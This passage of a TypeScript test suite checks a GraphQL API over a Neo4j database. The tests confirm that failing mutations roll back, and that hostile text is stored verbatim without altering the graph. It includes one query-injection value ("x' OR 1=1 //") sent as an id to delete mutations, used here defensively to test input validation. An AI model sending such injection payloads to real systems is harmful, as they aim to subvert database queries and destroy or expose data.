    // code and leave the graph exactly as it was (one transaction per request, rolled back).
    const mistakes: string[] = [];
    let sent = 0;
    const check = async (name: string, send: () => Promise<RawResponse>, codes: string[], field?: string) => {
      const start = await graphFingerprint(db);
      const response = await send();
      sent++;
      const error = response.body.errors?.[0];
      const code = error?.extensions?.code as string | undefined;
      if (!code || !codes.includes(code)) mistakes.push(`${name}: code ${String(code)} (${response.text.slice(0, 160)})`);
      else if (field && error?.extensions?.field !== field) mistakes.push(`${name}: field ${String(error?.extensions?.field)}`);
      if (JSON.stringify(await graphFingerprint(db)) !== JSON.stringify(start)) mistakes.push(`${name}: the graph changed`);
    };
    for (const typeName of shape.nodeTypes) {
      const update = mutationFor(typeName, "update");
      if (!update) continue;
      const response = schema.getType(`Update${update.name.slice(6)}MutationResponse`);
      const list = isObject(response) ? Object.keys(response.getFields()).find((f) => f !== "info") : undefined;
      const node = schema.getType(typeName);
      if (!list || !isObject(node)) continue;
      const required = Object.values(node.getFields()).find(
        (f) => f.name !== "id" && isNonNull(f.type) && !isList(f.type.ofType) && !("getFields" in namedType(f.type)),
      );
      // Changes a field other than the required one, so that one stays null on the broken node; text first.
      const updateInput = schema.getType(`${typeName}UpdateInput`);
      const candidates = isInputObject(updateInput)
        ? Object.values(updateInput.getFields()).filter(
            (f) =>
              f.name !== required?.name &&
              /ScalarMutations$/.test(namedType(f.type).name) &&
              !/^List/.test(namedType(f.type).name),
          )
        : [];
      const settable = candidates.find((f) => namedType(f.type).name === "StringScalarMutations") ?? candidates[0];
      if (!required || !settable) {
        mistakes.push(`${typeName}: no required field or no settable field to sweep with`);
        continue;
      }
      const settableType = node.getFields()[settable.name]?.type;
      const change = { [settable.name]: { set: validValue(typeName, settable.name, settableType) } };
      const failAfter = `after: ${update.name}(where: { id: { eq: "broken-${typeName}" } }, update: $u) { ${list} { ${required.name} } }`;
      const vars = { u: change };
      const decl = `$u: ${typeName}UpdateInput`;
      const post = (query: string, variables: Record<string, unknown>) => () => gql(url, query, variables, token);

      await check(`${update.name} then a response error`, post(`mutation(${decl}) { ${failAfter} }`, vars), [
        "INTERNAL_SERVER_ERROR",
      ]);
      if (namedType(settable.type).name === "StringScalarMutations") {
        await check(
          `${update.name} with a control character`,
          post(`mutation(${decl}) { ${update.name}(where: { id: { eq: "victim-${typeName}" } }, update: $u) { __typename } }`, {
            u: { [settable.name]: { set: "x\u0000" } },
          }),
          ["BAD_USER_INPUT"],
          settable.name,
        );
      }
      const create = mutationFor(typeName, "create");
      const createInput = schema.getType(`${typeName}CreateInput`);
      if (create && isInputObject(createInput)) {
        await check(
          `${create.name} then a response error`,
          post(`mutation($i: [${typeName}CreateInput!]!, ${decl}) { ${create.name}(input: $i) { __typename } ${failAfter} }`, {
            ...vars,
            i: [baseInput(typeName, createInput)],
          }),
          ["INTERNAL_SERVER_ERROR"],
        );
      }
      const remove = Object.values(schema.getMutationType()?.getFields() ?? {}).find(
        (f) => f.name === `delete${update.name.slice(6)}`,
      );
      if (remove) {
        await check(
          `${remove.name} then a response error`,
          post(
            `mutation(${decl}) { ${remove.name}(where: { id: { eq: "victim-${typeName}" } }) { nodesDeleted } ${failAfter} }`,
            vars,
          ),
          ["INTERNAL_SERVER_ERROR"],
        );
        await check(
          `${remove.name} with a hostile id`,
          post(`mutation($id: ID!) { ${remove.name}(where: { id: { eq: $id } }) { nodesDeleted } }`, { id: "x' OR 1=1 //" }),
          ["BAD_USER_INPUT"],
          "id",
        );
      }
    }
    expect(mistakes).toEqual([]);
    expect(sent).toBeGreaterThanOrEqual(30);
    process.stderr.write(`[corpus] ${sent} failing generated writes, each rolled back\n`);
  });

  // A course's words are linked to the vocabulary after a generic write (server/domains/vocabulary, #15): a new
  // proposed Topic and its ABOUT link are derived, not written by the request's input, so they are not counted; nor is
  // the tie version (server/platform/neo4j/tie-version.ts), which a generated write that may touch ties moves, and the
  // catalogue version (catalogue-version.ts), which one that may touch courses, periods or agreements moves.
  const COUNT_WITHOUT_DERIVED =
    "MATCH (n) WHERE NOT n:EditRecord AND NOT n:Topic AND NOT n:TieVersion AND NOT n:CatalogueVersion RETURN count(n) AS nodes, count { (a)-[r]->(b) WHERE NOT b:Topic AND NOT a:Topic } AS rels";
  it("stores hostile strings that are valid text verbatim in every text field, and nothing else", async () => {
    const countsBefore = await db.read(COUNT_WITHOUT_DERIVED);
    const recordsBefore = Number((await db.read("MATCH (r:EditRecord {operation: 'CREATE'}) RETURN count(r) AS n"))[0]?.n);
    let created = 0;
    for (const typeName of shape.nodeTypes) {
      const mutation = mutationFor(typeName, "create");
      const input = schema.getType(`${typeName}CreateInput`);
      if (!mutation || !isInputObject(input)) continue;
      const hostileFields: Record<string, string> = {};
      textFields(input).forEach((field, i) => {
        const rule = ruleFor(typeName, field, "String");
        if (rule && !["name", "line", "text"].includes(rule.kind)) return;
        hostileFields[field] = injections[i % injections.length] ?? "";
      });
      if (Object.keys(hostileFields).length === 0) continue;
      const response = await create(mutation.name, input.name, { ...baseInput(typeName, input), ...hostileFields })();
      expect(response.body.errors, typeName).toBeUndefined();
      created++;
      const stored = await db.read(
        `MATCH (n:\`${typeName}\`) WHERE any(k IN keys($fields) WHERE n[k] = $fields[k]) RETURN properties(n) AS props`,
        { fields: hostileFields },
      );
      expect(stored).toHaveLength(1);
      expect(stored[0]?.props, typeName).toMatchObject(hostileFields);
    }
    // Every type the generated API may create (workflow-owned ones have their own mutations).
    expect(created).toBeGreaterThanOrEqual(9);
    const countsAfter = await db.read(COUNT_WITHOUT_DERIVED);
    expect(countsAfter[0]).toEqual({ nodes: Number(countsBefore[0]?.nodes) + created, rels: countsBefore[0]?.rels });
    expect((await db.read("MATCH (n) WHERE n.pwned IS NOT NULL RETURN count(n) AS n"))[0]?.n).toBe(0);
    // Each create is recorded once in the history of generic edits (server/domains/history).
    expect((await db.read("MATCH (r:EditRecord {operation: 'CREATE'}) RETURN count(r) AS n"))[0]?.n).toBe(
      created + recordsBefore,
    );
  });
});
